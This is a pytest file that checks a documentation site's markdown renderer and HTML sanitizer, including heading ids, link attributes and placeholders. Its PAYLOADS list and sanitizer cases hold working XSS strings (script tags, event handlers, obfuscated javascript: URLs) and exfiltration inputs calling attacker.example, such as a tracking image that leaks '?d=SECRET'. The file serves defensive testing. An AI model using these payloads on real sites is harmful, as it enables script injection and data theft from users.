"""Rendering: markdown-it js-default, raw HTML off, nh3 last. XSS and exfiltration inputs
render harmless; headings keep the corpus's section ids; the title H1 becomes an anchor."""

from __future__ import annotations

import pytest

from askdocs.corpus.dialects import DIALECTS, Dialect
from askdocs.corpus.dialects.parser import make_dialect_parser
from askdocs.reader.markup import MarkupJob, make_renderer, render_markup
from askdocs.reader.sanitize import sanitize_html
from tests.reader.htmlcheck import elements, problems
from tests.reader.pages import page_from, render

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://attacker.example/x.png" onerror="alert(1)">',
    "<svg onload=alert(1)><circle r=1 /></svg>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/><a><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<style>body{background:url("https://attacker.example/")}</style>',
    '<base href="https://attacker.example/">',
    '<form action="https://attacker.example"><button>go</button></form>',
    '<object data="https://attacker.example/x.swf"></object>',
    '<embed src="https://attacker.example/x">',
    '<div id="__proto__" name="location" onclick="alert(1)">x</div>',
    '<details open ontoggle="alert(1)">x</details>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    "<javascript:alert(1)>",
    "[x](//attacker.example/x)",
    "[x](file:///etc/passwd)",
    '[x](https://ok.example/ "t\\" onmouseover=\\"alert(1)")',
    "![x](https://attacker.example/p.png?d=SECRET)",
    "![x](http://attacker.example/p.png)",
    "![x](//attacker.example/p.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "![x][r]\n\n[r]: https://attacker.example/p.png?d=SECRET",
    "[![x](https://attacker.example/i.png)](https://attacker.example)",
    '![x" onerror="alert(1)](img.png)',
    "`<script>alert(1)</script>`",
    '```"><script>alert(1)</script>\ncode\n```',
    "<!-- <script>alert(1)</script> -->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
CONTEXTS = ["{p}", "## Heading {p}", "- item {p}", "> {p}", "| a |\n|---|\n| {p} |"]


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_renders_harmless(payload: str, context: str) -> None:
    page = page_from("# Title\n\n" + context.format(p=payload) + "\n\nAfter.\n")
    html = render(page).html
    assert problems(html) == []
    assert "<script" not in html


def test_the_xss_battery_is_large() -> None:
    assert len(PAYLOADS) * len(CONTEXTS) >= 150


@pytest.mark.parametrize(
    "dirty",
    [
        '<a href="javascript:alert(1)">x</a>',
        '<img src="https://attacker.example/x.png">',
        '<img src="/api/docs/assets/../../etc/passwd">',
        '<svg><a xlink:href="javascript:alert(1)">x</a></svg>',
        '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
        '<p style="background:url(https://attacker.example)" onclick="x()">x</p>',
        '<code class="language-py x" id="a b">x</code>',
        '<a href="https://ok.example" target="_top">x</a>',
    ],
)
def test_sanitizer_boundary_on_raw_html(dirty: str) -> None:
    html = sanitize_html(dirty)
    assert problems(html) == []
    assert "svg" not in html
    assert "math" not in html
    assert "target" not in html


def test_external_links_get_rel() -> None:
    html = render(page_from("# T\n\n[out](https://example.com)\n")).html
    (link,) = [e for e in elements(html) if e.tag == "a"]
    assert link.attrs == {"href": "https://example.com", "rel": "noopener noreferrer"}


def test_local_image_only_with_an_asset_id() -> None:
    page = page_from("# T\n\n![Logo](img/logo.png) ![Other](img/other.png)\n", slug="guide/a")
    html = render(page, images={"img/logo.png": "a" * 64 + ".png"}).html
    images = [e for e in elements(html) if e.tag == "img"]
    assert images == [
        type(images[0])(
            "img",
            {"src": f"/api/docs/assets/guide/a/{'a' * 64}.png", "alt": "Logo", "loading": "lazy"},
        )
    ]
    assert '<span class="doc-image-refused">Other</span>' in html


def test_title_h1_becomes_anchor_and_other_h1_become_h2() -> None:
    page = page_from("# The title {#top}\n\nLead.\n\n# Second part\n\n### Deep\n")
    body = render(page)
    assert body.html.startswith('<span id="top" class="doc-title-anchor"></span>')
    assert '<h2 id="second-part">Second part</h2>' in body.html
    assert '<h3 id="deep">Deep</h3>' in body.html
    assert body.title_anchor == "top"
    assert [(e.id, e.level) for e in body.toc] == [("second-part", 2), ("deep", 3)]


def test_heading_ids_match_the_corpus_and_attributes_are_removed() -> None:
    text = (
        "# T\n\n## Setup { #install-step }\n\n## Setup\n\n## Setup\n\n```\n# not a heading\n```\n"
    )
    page = page_from(text)
    html = render(page).html
    ids = [e.attrs["id"] for e in elements(html) if e.tag == "h2"]
    assert ids == [h.section_id for h in page.headings[1:]]
    assert ids == ["install-step", "setup", "setup-1"]
    assert "{" not in html


def test_page_without_title_heading_keeps_all_headings() -> None:
    page = page_from("Intro first.\n\n# Later heading\n")
    body = render(page)
    assert body.title_anchor is None
    assert '<h2 id="later-heading">Later heading</h2>' in body.html


@pytest.mark.parametrize("dialect", DIALECTS)
def test_renderer_uses_the_corpus_dialect_parser(dialect: Dialect) -> None:
    ours, corpus = make_renderer(dialect), make_dialect_parser(dialect)
    assert ours.options == corpus.options
    assert ours.get_active_rules() == corpus.get_active_rules()
    text = "# A\n\n- b\n\n> c {#d}\n\n!!! note\n    ## In\n\n## E { #f }\n"
    ours_tokens = [(t.type, t.map) for t in ours.parse(text)]
    assert ours_tokens == [(t.type, t.map) for t in corpus.parse(text)]


def test_markup_is_context_free_placeholders() -> None:
    markup = render_markup(MarkupJob("[a](b.md) ![c](d.png)", ()))
    assert (
        markup.html == '<p><askdocs-link n="1">a<askdocs-link-end n="1"> <askdocs-img n="2"></p>\n'
    )
    assert markup.links[0].href == "b.md"
    assert markup.images[0].src == "d.png"


def test_placeholder_text_in_source_never_becomes_a_placeholder() -> None:
    # source HTML is rebuilt from an allowlist, so an unknown tag is dropped, never copied
    body = render(
        page_from('# T\n\n<askdocs-img n="1"> <askdocs-link n="1">x\n\n`<askdocs-img n="1">`\n')
    )
    assert "<img" not in body.html
    assert "<a " not in body.html
    assert '<code>&lt;askdocs-img n="1"&gt;</code>' in body.html
